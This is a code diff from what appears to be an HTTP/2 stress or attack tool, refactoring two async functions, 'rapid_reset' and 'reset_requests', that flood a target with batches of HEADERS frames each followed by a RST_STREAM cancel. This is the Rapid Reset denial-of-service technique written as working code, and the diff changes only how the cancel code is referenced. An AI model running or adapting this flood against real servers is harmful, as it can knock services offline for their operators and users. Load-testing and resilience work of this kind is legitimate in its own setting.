@@ -12,7 +12,6 @@ from tools.attacks.plan import QUEUED_GROWTH, Attack, Pace, Size, Target
 
 _BATCH = 200
 """Frames in one write."""
-_CANCEL = struct.pack(">I", 8)
 _OPEN = frames.END_HEADERS
 _COMPLETE = frames.END_HEADERS | frames.END_STREAM
 
@@ -56,7 +55,7 @@ async def rapid_reset(target: Target, pace: Pace) -> None:
                 await flood.send(
                     b"".join(
                         frames.frame(frames.HEADERS, _OPEN, stream, block)
-                        + frames.frame(frames.RST_STREAM, 0, stream, _CANCEL)
+                        + frames.frame(frames.RST_STREAM, 0, stream, frames.CANCEL)
                         for stream in flood.stream_ids(_BATCH)
                     )
                 )
@@ -75,7 +74,7 @@ async def reset_requests(target: Target, pace: Pace) -> None:
                     b"".join(
                         frames.frame(frames.HEADERS, _OPEN, stream, block)
                         + frames.frame(frames.DATA, frames.END_STREAM, stream, body)
-                        + frames.frame(frames.RST_STREAM, 0, stream, _CANCEL)
+                        + frames.frame(frames.RST_STREAM, 0, stream, frames.CANCEL)
                         for stream in flood.stream_ids(_BATCH)
                     )
                 )
